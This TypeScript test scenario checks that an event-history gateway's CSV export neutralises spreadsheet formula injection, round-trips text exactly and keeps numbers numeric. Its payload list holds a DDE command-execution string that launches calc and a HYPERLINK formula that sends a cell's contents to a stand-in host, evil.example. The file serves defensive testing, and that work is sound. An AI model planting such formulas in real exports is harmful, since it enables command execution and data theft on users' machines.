import { EXPORT_TOTAL_HEADER } from "../../../lib/history/api.ts";
import { parseCsv } from "../../../lib/history/csv.fixture.ts";
import { csvText } from "../../../lib/history/csv.ts";
import { mulberry32 } from "../../../lib/random.ts";
import { atLeast, exactly, type Scenario } from "../scenario.ts";
import { writeEntries } from "../stream.ts";
import { needs } from "../until.ts";

/** What makes a spreadsheet take a cell for a formula, bare, behind white space, in full width, or behind an apostrophe. */
const BEGINNINGS = [
  "=",
  "+",
  "-",
  "@",
  "\t",
  "\r",
  "\n=",
  "  =",
  "\u3000=",
  "＝",
  "＋",
  "－",
  "＠",
  "'=",
  "''@",
];
const ENDINGS = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?"&A1,"look")',
  "a,b",
  'a"b""c"',
  "a;b\tc",
  "a\r\n=2",
  "a\n-2\r",
  "5",
];
/** What looks like a number and is a text. */
const NUMERALS = ["-5.5", "+49 170 1234567", "-0.5e3", "007"];
const ALPHABET = [..."=+-@＝＋－＠'\"',;\t\r\n a1", "é", "\u202e", "\ufeff", "🤖"];
const RANDOM = 100;
const RANDOM_IN_FULL = 5_000;

const NUMBERS = [-5, -0.25, 1e21, -1e-7, 0, Number.MAX_SAFE_INTEGER, -Number.MAX_VALUE, 12.5];
/** Everything here is known by it: the gateway tells of itself meanwhile. */
const MARK = "csv";

/** Of an event, whatever place a text can have in one: as the filter language names it, and so the column. */
const TEXT_COLUMNS = [
  ...["id", "type", "source", "target", "mission", "task", "tenant", "actor", "severity"],
  ...["reason", "nested.note", '"=1+1"', "@sum"],
] as const;
const ENTITY_COLUMNS = ["agent", "robot", "job"] as const;
const COLUMNS = [...TEXT_COLUMNS, ...ENTITY_COLUMNS, "number", "nested"] as const;

const injected = (randomOnes: number) =>
  `${BEGINNINGS.length * ENDINGS.length} texts that begin with = + - @, TAB or CR in some way, ${NUMERALS.length} that look like numbers and ${randomOnes} random ones, each in ${TEXT_COLUMNS.length + 1} places of an event`;

export const csvFormulas: Scenario = {
  id: "S23",
  title: "Texts in events that a spreadsheet would run",
  promises:
    "no cell of a CSV export is taken for a formula; read by RFC 4180 each text comes back exactly as it was, and numbers stay numbers",
  injects: injected(RANDOM),
  injectsInFull: injected(RANDOM_IN_FULL),
  quick: true,
  defences: [
    "lib/history/csv.ts: a text goes out as it is → cells that a spreadsheet would run (3,097), cells that came back otherwise (336)",
    "lib/history/csv.ts: CR alone needs no quotes → what is exported is no CSV any more",
    "lib/history/csv.ts: numbers are texts like any others → numbers that are none any more (120)",
  ],
  async run(rig) {
    const redis = await rig.redis();
    const { url } = await rig.gateway(redis.url);
    const texts = makeTexts(rig.full ? RANDOM_IN_FULL : RANDOM);
    await writeEntries(redis, texts.map(entryOf));
    await needs("the history has them all", async () => (await exported(url)).total === texts.length);

    const chosen = parseCsv((await exported(url, COLUMNS)).text);
    const usual = parseCsv((await exported(url)).text);
    const cells = texts.flatMap((text, n) =>
      cellsOf(text, n).map((value, at) => ({ value, cell: chosen[n + 1]?.[at] ?? "" })),
    );
    const numbers = cells.filter(({ value }) => typeof value === "number");
    const formulas = [...usual, ...chosen.map((row) => row.filter((_, at) => COLUMNS[at] !== "number"))];
    const otherwise = [
      ...COLUMNS.filter((name, at) => csvText(chosen[0]?.[at] ?? "") !== name),
      ...cells.filter(({ value, cell }) => typeof value === "string" && csvText(cell) !== value),
      ...texts.filter(
        (text, n) => csvText(usual[n + 1]?.at(-1) ?? "") !== JSON.stringify(payloadOf(text, n)),
      ),
    ];
    return [
      exactly("cells that a spreadsheet would run", formulas.flat().filter(runs).length, 0),
      exactly("cells that came back otherwise than they were", otherwise.length, 0),
      exactly(
        "numbers that are none any more",
        numbers.filter(({ value, cell }) => cell === "" || Number(cell) !== value).length,
        0,
      ),
      exactly("lines too many", chosen.length + usual.length - 2 * (texts.length + 1), 0),
      atLeast("cells compared", cells.length, texts.length * COLUMNS.length),
    ];
  },
};

/** As a spreadsheet sees it, which may leave out white space. */
const runs = (cell: string): boolean => /^[\t\r]|^\s*[=+\-@＝＋－＠]/.test(cell);

/** No two alike: each is an event's id, too. */
function makeTexts(randomOnes: number): string[] {
  const random = mulberry32(23);
  const pick = () => ALPHABET[Math.floor(random() * ALPHABET.length)] ?? "";
  const texts = new Set([...BEGINNINGS.flatMap((begin) => ENDINGS.map((end) => begin + end)), ...NUMERALS]);
  for (const wanted = texts.size + randomOnes; texts.size < wanted; ) {
    const text = Array.from({ length: 1 + Math.floor(random() * 12) }, pick).join("");
    // A blank name is damage, and put aside.
    if (text.trim() !== "") texts.add(text);
  }
  return [...texts];
}

const entityOf = (n: number) => ENTITY_COLUMNS[n % ENTITY_COLUMNS.length] ?? "agent";
const numberOf = (n: number) => NUMBERS[n % NUMBERS.length] ?? 0;

const payloadOf = (text: string, n: number) => ({
  [`${entityOf(n)}_id`]: text,
  reason: text,
  number: numberOf(n),
  nested: { note: text },
  "=1+1": text,
  "@sum": text,
});

const entryOf = (text: string, n: number): Record<string, string> => ({
  id: text,
  type: text,
  source: text,
  target: text,
  timestamp: String(Date.now() / 1000),
  payload: JSON.stringify(payloadOf(text, n)),
  mission_id: text,
  task_id: text,
  tenant_id: text,
  actor_id: text,
  severity: text,
  correlation_id: MARK,
});

/** What has to stand in the columns. */
function cellsOf(text: string, n: number): (string | number)[] {
  const entities = ENTITY_COLUMNS.map((kind) => (kind === entityOf(n) ? text : ""));
  return [...TEXT_COLUMNS.map(() => text), ...entities, numberOf(n), JSON.stringify({ note: text })];
}

async function exported(
  url: string,
  columns: readonly string[] = [],
): Promise<{ text: string; total: number }> {
  const query = new URLSearchParams({
    format: "csv",
    query: `correlation:${MARK}`,
    columns: columns.join(","),
  });
  const answer = await fetch(`${url}/api/events/export?${query}`);
  // A byte order mark is part of what is promised: `text()` would take it away.
  const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await answer.arrayBuffer());
  return { text, total: Number(answer.headers.get(EXPORT_TOTAL_HEADER)) };
}
